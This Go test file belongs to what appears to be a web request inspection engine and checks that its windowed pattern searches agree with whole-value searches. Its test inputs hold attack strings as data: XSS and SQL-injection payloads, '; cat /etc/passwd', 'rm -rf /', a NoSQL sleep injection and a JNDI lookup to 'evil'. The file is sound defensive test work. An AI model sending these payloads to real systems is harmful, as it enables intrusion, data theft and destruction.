package inspect

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/bulwark-sec/bulwark/internal/corpus"
	"github.com/bulwark-sec/bulwark/internal/testutil"
)

// sameAsWhole checks, for every windowed pattern whose hints v holds, that
// the windowed search finds what the expression finds in all of v. It
// returns the searches that found a match.
func sameAsWhole(t *testing.T, v string) (found int) {
	t.Helper()
	ev := hintEventsOf(v, nil)
	m := scanHints(v)
	for _, p := range patterns {
		if p.plans == nil || !m.admits(p) {
			continue
		}
		want := p.re.FindStringIndex(v)
		got, ok := findWindowed(p, v, &m, ev)
		if !ok {
			continue // the caller runs p on all of v
		}
		if !slices.Equal(got, want) {
			t.Errorf("pattern %.60q on %d bytes: windowed %v, whole %v (%.80q)", p.expr, len(v), got, want, v[max(0, min(len(v), firstOf(want, got))-40):])
			continue
		}
		if want != nil {
			found++
		}
	}
	return found
}

func firstOf(a, b []int) int {
	if a != nil {
		return a[0]
	}
	if b != nil {
		return b[0]
	}
	return 0
}

// TestWindowsFindWhatWholeFinds puts each attack of the corpora, as the
// engine reads it, inside prose (at a varying place, so windows are cut
// everywhere around it) and checks that every pattern finds, on the
// windows around its hints, exactly the match it finds in the whole value.
func TestWindowsFindWhatWholeFinds(t *testing.T) {
	if testing.Short() {
		t.Skip("windows over the corpora skipped in -short mode")
	}
	compilePatterns()
	dir, err := corpus.Dir()
	if err != nil {
		testutil.RealPartMissing(t, err.Error())
	}
	patt, err := corpus.LoadPATT(dir)
	if err != nil {
		t.Fatal(err)
	}
	crs, err := corpus.LoadCRS(dir, crsFamilies)
	if err != nil {
		t.Fatal(err)
	}
	prose, err := corpus.LoadProse()
	if err != nil {
		t.Fatal(err)
	}
	var text strings.Builder
	for _, c := range prose {
		text.WriteString(strings.ToLower(string(c.Body)))
		text.WriteString("\n")
	}
	filler := text.String()
	var a arena
	seen := map[string]bool{}
	found, n := 0, 0
	for i, c := range append(patt, crs...) {
		for _, v := range []string{c.Path, string(c.Body)} {
			a.reset()
			low := a.lower(a.decode(v))
			if seen[low] || len(low) < 4 {
				continue
			}
			seen[strings.Clone(low)] = true // low lives in the arena, reused at the next reset
			n++
			if n%sampleEvery != 0 {
				continue // the whole corpus takes minutes
			}
			// Prose before and after, cut at a place that moves with i.
			pre := filler[(i*37)%1000 : (i*37)%1000+600+i%97]
			post := filler[(i*53)%1000 : (i*53)%1000+600+i%89]
			found += sameAsWhole(t, pre+low+post)
			found += sameAsWhole(t, low+strings.Repeat(" ", minWindowed)) // at the start, padded with spaces
		}
	}
	if found < n/sampleEvery {
		t.Errorf("%d matches over %d attacks: the attacks did not reach the patterns", found, n/sampleEvery)
	}
	t.Logf("%d attacks, %d matches found alike", n/sampleEvery, found)
}

// sampleEvery is the share of the corpora's attacks TestWindowsFindWhatWholeFinds
// tries: one in sampleEvery, each time the same.
const sampleEvery = 20

// TestWindowsOnContent runs the content corpus (long articles) and the
// prose corpus through the engine, checking every windowed search against
// the whole value.
func TestWindowsOnContent(t *testing.T) {
	if testing.Short() {
		t.Skip("windows over the content corpus skipped in -short mode")
	}
	dir, err := corpus.Dir()
	if err != nil {
		testutil.RealPartMissing(t, err.Error())
	}
	content, err := corpus.LoadContent(dir)
	if err != nil {
		t.Fatal(err)
	}
	prose, err := corpus.LoadProse()
	if err != nil {
		t.Fatal(err)
	}
	e, err := New(Config{})
	if err != nil {
		t.Fatal(err)
	}
	searches, margins := 0, 0
	windowCheck = func(p *pattern, v string, loc []int, ok bool) {
		searches++
		if !ok {
			margins++
			return
		}
		if want := p.re.FindStringIndex(v); !slices.Equal(loc, want) {
			t.Errorf("pattern %.60q on %d bytes: windowed %v, whole %v", p.expr, len(v), loc, want)
		}
	}
	defer func() { windowCheck = nil }()
	for _, c := range append(content, prose...) {
		e.Inspect(&Request{Method: c.Method, URI: c.Path, Header: c.Header, Body: c.Body})
	}
	if searches == 0 {
		t.Fatal("no windowed search: the content corpus has no long values?")
	}
	t.Logf("%d windowed searches, %d ran on the whole value (a match in a margin)", searches, margins)
}

// TestWindowEdges checks the cases a window's ends could change: padding
// longer than any bound (an unbounded \s* or [^>]*), \b and ^ at a cut,
// characters of several bytes and invalid UTF-8 around it.
func TestWindowEdges(t *testing.T) {
	compilePatterns()
	pad := func(n int, s string) string { return strings.Repeat(s, n/len(s)+1)[:n] }
	prose := pad(3000, "the quick brown fox jumps over the lazy dog. ")
	cases := []string{
		"<iframe" + pad(5000, " ") + "src=javascript:alert(1)>",
		"<iframe foo" + pad(5000, "a") + " src=javascript:alert(1)>",
		"<a href" + pad(4000, "\n") + "=javascript:alert(1)>",
		"x' union" + pad(3000, " ") + "select password from users--",
		"élan ü " + prose[:700] + "'; alert(1)//" + "日本語",
		prose[:600] + "\xff\xfe<script>" + prose,
		"<script>" + prose,
		prose + "<script>",
		prose[:1000] + "abc<script>alert(1)</script>",
		prose[:1000] + "; cat /etc/passwd",
		"rm -rf /" + prose,
		prose + "while(true){}",
		"{\"$where\": \"sleep(100)\"}" + prose,
		prose + "${jndi:ldap://evil/x}",
	}
	found := 0
	for _, v := range cases {
		found += sameAsWhole(t, v)
	}
	if found < len(cases)/2 {
		t.Errorf("%d matches in %d cases: the cases do not reach the patterns", found, len(cases))
	}
}

// FuzzWindows checks windowed searches against whole ones on any value,
// made long with prose around it.
func FuzzWindows(f *testing.F) {
	compilePatterns()
	for _, s := range []string{"<script>", "' or 1=1--", "; ls -la", "<img src=x onerror=alert(1)>", "{{7*7}}", "${ifs}", "é\xff<"} {
		f.Add(s, uint16(100))
	}
	f.Fuzz(func(t *testing.T, v string, at uint16) {
		prose := strings.Repeat("this is prose about select and script. ", 30)
		i := int(at) % len(prose)
		sameAsWhole(t, prose[:i]+strings.ToLower(v)+prose[i:])
	})
}

// TestWindowBitsSuffice checks that every alternative with exact hints
// has a bit of the automaton for them: one without runs on whole values,
// as slowly as before windows. If it fails, grow hintMask.
func TestWindowBitsSuffice(t *testing.T) {
	compilePatterns()
	for _, p := range patterns {
		for _, w := range p.plans {
			if w.win < 0 && requiredHints(w.re.String()) != nil {
				t.Errorf("alternative %.60q of %.60q has exact hints but no bit: grow hintMask", w.re.String(), p.expr)
			}
		}
	}
}

// TestWindowsConcurrent inspects long values from several goroutines at
// once (each scan keeps its own hint events): the verdicts are those of
// one goroutine alone. Run under -race.
func TestWindowsConcurrent(t *testing.T) {
	e, err := New(Config{})
	if err != nil {
		t.Fatal(err)
	}
	prose := strings.Repeat("The quick brown fox's function jumps over the lazy dog; see the docs. ", 20)
	var reqs []*Request
	for _, attack := range []string{"", "<script>alert(1)</script>", "x' union select password from users--", "; cat /etc/passwd", "<img src=x onerror=alert(1)>"} {
		body := prose + attack + prose
		reqs = append(reqs, bodyRequest("json", body, false), bodyRequest("form", body, true))
	}
	want := make([]int, len(reqs))
	for i, r := range reqs {
		want[i] = e.Inspect(r).Score
	}
	if want[0] != 0 || slices.Max(want) == 0 {
		t.Fatalf("scores %v: want 0 for prose alone and more for some attack", want)
	}
	errs := make(chan string, 8*len(reqs))
	done := make(chan struct{})
	for g := 0; g < 8; g++ {
		go func() {
			defer func() { done <- struct{}{} }()
			for k := range 4 * len(reqs) {
				i := (k + g) % len(reqs)
				if got := e.Inspect(reqs[i]).Score; got != want[i] {
					errs <- fmt.Sprintf("request %d: score %d from goroutine %d, want %d", i, got, g, want[i])
					return
				}
			}
		}()
	}
	for range 8 {
		<-done
	}
	close(errs)
	for e := range errs {
		t.Error(e)
	}
}
